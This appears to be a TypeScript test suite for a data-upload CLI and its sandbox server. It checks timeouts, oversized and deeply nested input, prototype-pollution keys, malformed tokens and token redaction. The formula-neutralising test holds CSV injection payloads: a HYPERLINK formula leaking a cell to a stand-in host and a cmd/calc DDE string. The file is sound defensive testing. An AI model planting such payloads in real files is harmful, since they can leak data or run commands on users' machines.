// Hostile inputs and answers, each ending in its documented outcome and exit code within its time
// limit, with nothing sent on bad input and no form of the token in any output (docs/hostile-inputs.md).
import { spawn } from 'node:child_process';
import { connect } from 'node:net';
import { existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { CANARY, upload } from '../helpers/canary.js';
import { BIN, fixture, ROOT, runCli } from '../helpers/cli.js';
import { range, writeMembers } from '../helpers/members.js';
import { sandbox, TOKEN } from '../helpers/sandbox.js';
import { serversForFile } from '../helpers/scripted-server.js';
import { until } from '../helpers/spawn.js';
import { lockOf } from '../helpers/state.js';
import { tempDir } from '../helpers/tmp.js';
import { startSandbox } from '../../src/sandbox/server.js';

const { serve, track } = serversForFile();
const HEADER = 'employeeID,email,name,roleCode,parentKey';

describe.concurrent('a service that never finishes its answer', () => {
  it('a 200 whose body drips a byte every 100 ms ends at --timeout: unknown, exit 6, lock released', async () => {
    const server = await serve({ drip: 100 });
    const run = await upload(server.url, ['--timeout', '1', '--retries', '1']);
    expect(run.code).toBe(6);
    // The bound that ended it is --timeout's: a body that never finishes cannot hold the run.
    expect(run.json()).toMatchObject({ outcome: 'unknown', error: { code: 'OUTCOME_UNKNOWN', message: expect.stringContaining('no answer within 1 s') } });
    expect(server.requests.map((r) => r.sha256)).toEqual([server.requests[0]!.sha256, server.requests[0]!.sha256]);
    expect(existsSync(lockOf(run.stateDir, server.url))).toBe(false);
  });

  it('a 200 whose body never ends is read no further than 1 MiB: unverified, exit 7', async () => {
    const server = await serve({ endless: true });
    const run = await upload(server.url, ['--timeout', '30', '--retries', '0']);
    expect(run.code).toBe(7);
    expect(run.json()).toMatchObject({ outcome: 'unverified', error: { code: 'ANSWER_UNCONFIRMED', message: expect.stringContaining('more than 1 MiB') } });
  });
});

function membersWith(dir: string, name: string, rows: readonly string[]): string {
  const path = join(dir, name);
  writeFileSync(path, `${HEADER}\n${rows.join('\n')}\n`);
  return path;
}

describe('files full of mistakes', () => {
  it('--errors-csv writes 160,000 rejected rows (a spread of them once overflowed the stack)', async () => {
    const t = tempDir();
    const file = membersWith(
      t.dir,
      'bad.csv',
      Array.from({ length: 160_000 }, (_, i) => `E${i},not-an-email-${i},N ${i},,`),
    );
    const out = join(t.dir, 'rejected.csv');
    const r = await runCli(['team-members', file, '--dry-run', '--json', '--errors-csv', out]);
    expect(r.code).toBe(3);
    const report = r.json();
    // The report keeps the first 1,000 issues in full and counts them all.
    expect(report.issues).toHaveLength(1000);
    expect(report).toMatchObject({ issuesTruncated: true, issueCounts: { INVALID_EMAIL: 160_000 }, error: { code: 'INVALID_RECORDS' } });
    const lines = readFileSync(out, 'utf8').split('\r\n');
    expect(lines).toHaveLength(160_002);
    expect(lines[160_000]).toMatch(/^E159999,not-an-email-159999,N 159999,,,line 160001: email: email 'not-an-email-159999' is not an email address/);
    expect(statSync(out).mode & 0o777).toBe(0o600);
  }, 120_000);

  it('neutralises formula-like cells in the errors CSV it writes', async () => {
    const t = tempDir();
    const rows = [
      'E1,bad1,"=HYPERLINK(""http://x.example/?""&A1)",,',
      "E2,bad2,+cmd|' /C calc'!A0,,",
      'E3,bad3,-2+3,,',
      'E4,bad4,@SUM(A1:A9),,',
      'E5,bad5,"\t=1+1",,',
    ];
    const file = membersWith(t.dir, 'f.csv', rows);
    const out = join(t.dir, 'rejected.csv');
    expect((await runCli(['team-members', file, '--dry-run', '--errors-csv', out])).code).toBe(3);
    const text = readFileSync(out, 'utf8');
    for (const cell of ['\'=HYPERLINK(""http://x.example/?""&A1)', "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1:A9)", "'\t=1+1"]) expect(text).toContain(cell);
    expect(text).not.toMatch(/,=HYPERLINK|,\+cmd|,-2\+3|,@SUM/);
  });

  it.each([
    ['a JSON array', 'deep.json', (v: string) => `[{"employeeID":"E1","email":"a@example.com","name":${v}}]`],
    ['NDJSON', 'deep.ndjson', (v: string) => `{"employeeID":"E1","email":"a@example.com","name":${v}}\n`],
  ])('refuses JSON nested 100,000 levels deep in %s: exit 3, JSON_TOO_DEEP', async (_what, name, record) => {
    const file = tempDir().write(name, record(`${'['.repeat(100_000)}1${']'.repeat(100_000)}`));
    const r = await runCli(['team-members', file, '--dry-run', '--json']);
    expect(r.code).toBe(3);
    expect(r.json().error).toMatchObject({ code: 'JSON_TOO_DEEP', message: expect.stringContaining(':1:') });
  });

  it('an hours cell holding JSON 100,000 levels deep is an error of that cell, not a crash', async () => {
    const deep = `{"1":${'['.repeat(100_000)}${']'.repeat(100_000)}}`;
    const file = tempDir().write('s.csv', `nodeKey,email,hours\nS1,s@example.com,"${deep.replaceAll('"', '""')}"\n`);
    const r = await runCli(['store-cards', file, '--dry-run', '--json']);
    expect(r.code).toBe(3);
    expect(r.json().issues[0]).toMatchObject({ code: 'INVALID_HOURS', line: 2 });
  });

  it.each([
    ['"\\u005f_proto__"', '__proto__'],
    ['"\\u0063onstructor"', 'constructor'],
    ['"proto\\u0074ype"', 'prototype'],
  ])('refuses the escaped forbidden key %s: exit 3, FORBIDDEN_KEY', async (key, decoded) => {
    const t = tempDir();
    for (const [name, text] of [
      ['x.json', `[{"employeeID":"E1","email":"a@example.com","name":"A","extra":{${key}:{"polluted":true}}}]`],
      ['x.ndjson', `{"employeeID":"E1","email":"a@example.com","name":"A",${key}:1}\n`],
    ] as const) {
      const r = await runCli(['team-members', t.write(name, text), '--dry-run', '--json']);
      expect(r.code, name).toBe(3);
      expect(r.json().error).toMatchObject({ code: 'FORBIDDEN_KEY', message: expect.stringContaining(`'${decoded}'`) });
    }
  });

  it.each([
    ['a NUL character', 'm.csv', `${HEADER}\nE1,a@example.com,Ann\u0000Lee,,\n`],
    // Only an escape can carry a lone surrogate: UTF-8 and UTF-16 files are decoded strictly.
    ['a lone surrogate', 'm.ndjson', '{"employeeID":"E1","email":"a@example.com","name":"Ann \\ud800 Lee","roleCode":null,"parentKey":null}\n'],
  ])('refuses %s in a value: exit 3, INVALID_CHARACTER naming the cell', async (_what, name, text) => {
    const file = tempDir().write(name, text);
    const r = await runCli(['team-members', file, '--dry-run', '--json']);
    expect(r.code).toBe(3);
    expect(r.json().issues).toEqual([expect.objectContaining({ code: 'INVALID_CHARACTER', column: 'name', field: 'name' })]);
  });
});

describe.concurrent('flags that name huge or broken files', () => {
  it('--token-file /dev/zero: exit 2 at once, naming the flag', async () => {
    const server = await serve({ ok: true });
    // /dev/zero never ends: a run that read it would never finish.
    const run = await upload(server.url, ['--token-file', '/dev/zero']);
    expect(run.code).toBe(2);
    expect(run.json().error).toMatchObject({ code: 'NOT_A_FILE', message: expect.stringContaining('--token-file /dev/zero') });
    expect(server.requests).toEqual([]);
  });

  it('--map /dev/zero: exit 2 at once', async () => {
    const r = await runCli(['team-members', fixture('team-members.csv'), '--dry-run', '--json', '--map', '/dev/zero']);
    expect(r.code).toBe(2);
    expect(r.json().error).toMatchObject({ code: 'NOT_A_FILE', message: expect.stringContaining('--map /dev/zero') });
  });
});

describe.concurrent('tokens an HTTP header cannot carry', () => {
  it.each([
    ['non-Latin-1', 'tökén-3f9a2c1b8e'],
    ['U+2028', 'abcd\u2028efgh1234'],
    ['a no-break space', 'abcd\u00a0efgh1234'],
    ['a space', 'abcd efgh1234'],
    ['too short to be a credential', 'abc'],
  ])('%s: exit 2 before the lock, the audit or the network', async (_what, token) => {
    const server = await serve({ ok: true });
    const run = await upload(server.url, [], { env: { UPLOAD_TOKEN: token } });
    expect(run.code).toBe(2);
    expect(run.json().error.code).toBe('BAD_TOKEN');
    expect(server.requests).toEqual([]);
    expect(existsSync(join(run.stateDir, 'stores'))).toBe(false);
  });

  it('invalid UTF-8 in the token file: exit 2', async () => {
    const server = await serve({ ok: true });
    const file = tempDir().write('token', Buffer.from([0x61, 0x62, 0xff, 0xfe, 0x63, 0x64, 0x65, 0x66, 0x67]));
    const run = await upload(server.url, ['--token-file', file]);
    expect(run.code).toBe(2);
    expect(run.json().error).toMatchObject({ code: 'BAD_TOKEN', message: expect.stringContaining('not valid UTF-8') });
    expect(server.requests).toEqual([]);
  });

  it('a service that echoes the token URL-encoded or JSON-escaped shows it nowhere', async () => {
    const token = 'secret/with+plus&amp=1"quote';
    const server = await serve({
      status: 401,
      headers: { location: `https://x.example/?t=${encodeURIComponent(token)}` },
      body: { message: `bad token ${encodeURIComponent(token)} / ${token} / ${JSON.stringify(token)}`, status: 401 },
    });
    const run = await upload(server.url, [], { env: { UPLOAD_TOKEN: token } });
    expect(run.code).toBe(5);
    for (const form of [token, encodeURIComponent(token), JSON.stringify(token).slice(1, -1)]) expect(run.stdout + run.stderr).not.toContain(form);
    expect(run.stderr).toContain('bad token ***');
  });
});

describe('a consumer that stops reading', () => {
  it('upload … --json | head -c1 ends with the run’s own exit code and no stack', async () => {
    const child = spawn(process.execPath, [BIN, 'team-members', fixture('team-members.csv'), '--dry-run', '--json'], {
      cwd: ROOT,
      env: { PATH: process.env.PATH ?? '', NO_COLOR: '1' },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let stderr = '';
    child.stderr.on('data', (b: Buffer) => (stderr += b.toString()));
    child.stdout.destroy();
    const code = await new Promise<number | null>((resolve) => child.on('close', resolve));
    expect(code).toBe(0);
    expect(stderr).not.toMatch(/EPIPE|at .*\(.*:\d+:\d+\)/);
  });
});

describe('the sandbox', () => {
  it('clears temp files left by killed writes when it starts', async () => {
    const data = join(tempDir().dir, 'data');
    mkdirSync(data);
    const dead = 2 ** 22 + 4321;
    const litter = join(data, `.teamMembers.json.${dead}.0a1b2c3d.tmp`);
    writeFileSync(litter, '[{"employeeID":');
    const s = await startSandbox({ token: TOKEN, dataDir: data });
    try {
      expect(existsSync(litter)).toBe(false);
    } finally {
      await s.close();
    }
  });

  it('closes a client that sends its headers too slowly', async () => {
    const s = track(await startSandbox({ token: TOKEN, headersTimeoutMs: 500, requestTimeoutMs: 1000 }));
    const socket = connect(s.port, '127.0.0.1');
    socket.write('POST /integrations/teamMembers HTTP/1.1\r\nHost: x\r\n');
    let answer = '';
    socket.on('data', (b: Buffer) => (answer += b.toString()));
    await new Promise<void>((resolve) => socket.on('close', () => resolve()).on('error', () => {}));
    expect(answer).toMatch(/^HTTP\/1\.1 408/);
    // The test's own timeout is the hang bound: 60 times the 0.5 s asked for, and below Node's default
    // of 60 s, so a sandbox that ignored its setting fails here rather than passing slowly.
  });

  it('refuses a --host other machines can reach unless --allow-remote, and warns when allowed', async () => {
    const refused = await runCli(['sandbox', '--host', '0.0.0.0', '--port', '0'], { env: { SANDBOX_TOKEN: TOKEN } });
    expect(refused.code).toBe(2);
    expect(refused.stderr).toMatch(/--host 0\.0\.0\.0 would let other machines reach the sandbox[\s\S]*--allow-remote/);
    const child = spawn(process.execPath, [BIN, 'sandbox', '--host', '0.0.0.0', '--port', '0', '--allow-remote'], {
      cwd: ROOT,
      env: { PATH: process.env.PATH ?? '', SANDBOX_TOKEN: TOKEN },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let stderr = '';
    child.stderr.on('data', (b: Buffer) => (stderr += b.toString()));
    await until(() => /listening/i.test(stderr));
    const closed = new Promise<number | null>((resolve) => child.on('close', resolve));
    child.kill('SIGTERM');
    expect(await closed, stderr).toBe(0);
    expect(stderr).toMatch(/^WARNING: the sandbox listens on 0\.0\.0\.0/m);
  });
});

describe('no token form anywhere, across a whole real run', () => {
  it('the canary never appears in output or state after an upload to the real sandbox', async () => {
    const sb = await sandbox();
    try {
      const t = tempDir();
      const r = await runCli(['team-members', writeMembers(t.dir, 'a.csv', range(1, 5)), '--yes', '--no-baseline', '--json', '--state', sb.stateDir], {
        env: { ...sb.env, UPLOAD_TOKEN: TOKEN },
      });
      expect(r.code).toBe(0);
      expect(CANARY).not.toBe(TOKEN);
      for (const form of [TOKEN, encodeURIComponent(TOKEN)]) expect(r.stdout + r.stderr).not.toContain(form);
    } finally {
      await sb.stop();
    }
  });
});
